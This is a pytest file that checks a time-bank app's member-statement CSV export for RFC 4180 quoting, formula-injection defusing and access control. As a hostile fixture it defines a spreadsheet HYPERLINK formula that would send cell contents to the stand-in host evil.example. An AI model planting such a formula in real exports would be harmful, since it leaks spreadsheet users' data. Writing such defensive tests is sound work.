"""A member's statement as CSV: every column, RFC 4180 quoting, and no formulas.

Hostile names and titles (a spreadsheet formula, commas, quotes, a newline) come back as
the text they were, quoted as RFC 4180 requires, and prefixed with a quote where a
spreadsheet would otherwise run them. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from scambio.timebank import statement
from scambio.timebank.statement import COLUMNS, Line, safe_cell, to_csv

from .api_helpers import Api, assert_problem, exchange_in, running_api

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def line(**overrides: object) -> Line:
    values: dict[str, object] = {
        "index": 7,
        "entry_id": "xch-0f8e1c9a-2b7d-4e51-9a3c-5d6f7a8b9c0d:post",
        "kind": "post",
        "time": "2026-11-25T09:00:00.000000Z",
        "minutes": -75,
        "pending": False,
        "balance": -75,
        "memo": "exchange 0f8e1c9a-2b7d-4e51-9a3c-5d6f7a8b9c0d",
        "counterpart": "m-0123456789abcdef",
        "counterpart_name": "Giulia",
        "exchange_id": "0f8e1c9a-2b7d-4e51-9a3c-5d6f7a8b9c0d",
        "group_id": None,
        "title": "Homework help",
        "state": "confirmed",
        "recorded_by": None,
        "proof": statement.proof_link(7),
    }
    values.update(overrides)
    return Line(**values)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tTAB", "'\tTAB"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        (-75, "-75"),
        (0, "0"),
        ("-75", "-75"),
        (None, ""),
        (True, "true"),
        (False, "false"),
    ],
)
def test_cells_that_would_run_as_formulas_are_defused(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_csv_is_rfc_4180_with_a_header_naming_every_column() -> None:
    text = to_csv(
        [
            line(),
            line(index=8, title='Rossi, "Mimmo"\nsecond line', counterpart_name=FORMULA),
        ]
    )
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    assert text.endswith("\r\n")
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text
    assert '"Rossi, ""Mimmo""\nsecond line"' in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(COLUMNS)
    second = dict(zip(COLUMNS, rows[2], strict=True))
    assert second["title"] == 'Rossi, "Mimmo"\nsecond line'
    assert second["counterpart_name"] == "'" + FORMULA
    assert (second["minutes"], second["balance"], second["pending"]) == ("-75", "-75", "false")
    assert second["group_id"] == ""
    assert to_csv([]) == ",".join(COLUMNS) + "\r\n"


@pytest.fixture
async def api(db_url: str, tmp_path: Path) -> AsyncIterator[Api]:
    async with running_api(db_url, tmp_path) as running:
        yield running


async def test_marcos_statement_downloads_as_safe_csv(api: Api) -> None:
    giulia = await api.add_member("giulia", name=FORMULA)
    marco = await api.add_member("marco", name="Marco")
    bruno = await api.add_member("bruno")
    first = await exchange_in(api, giulia, marco, "confirmed", minutes=30, title="@SUM(1,2)")
    second = await exchange_in(
        api, giulia, marco, "accepted", minutes=20, title='Homework, "maths"'
    )
    response = await api.get(f"/api/v1/members/{marco.id}/statement.csv", role="marco")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0] == list(COLUMNS)
    lines = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert [(r["kind"], r["minutes"], r["balance"], r["exchange_id"]) for r in lines] == [
        ("hold", "-30", "0", first),
        ("post", "-30", "-30", first),
        ("hold", "-20", "-30", second),
    ]
    assert {r["counterpart_name"] for r in lines} == {"'" + FORMULA}
    assert [r["title"] for r in lines] == ["'@SUM(1,2)", "'@SUM(1,2)", 'Homework, "maths"']
    assert all(r["proof"] == statement.proof_link(int(r["index"])) for r in lines)
    # The JSON statement has the same lines, unescaped (JSON is not a spreadsheet).
    page = (await api.get(f"/api/v1/members/{marco.id}/statement", role="auditor")).json()
    assert page["lines"][0]["title"] == "@SUM(1,2)"
    assert page["next_cursor"] is None
    paged = (await api.get(f"/api/v1/members/{marco.id}/statement", role="marco", limit=2)).json()
    assert len(paged["lines"]) == 2 and paged["next_cursor"] == str(paged["lines"][1]["index"])
    # Only Marco and staff read it.
    for path in ("statement", "statement.csv"):
        assert_problem(
            await api.get(f"/api/v1/members/{marco.id}/{path}", role=bruno.key), 403, "forbidden"
        )
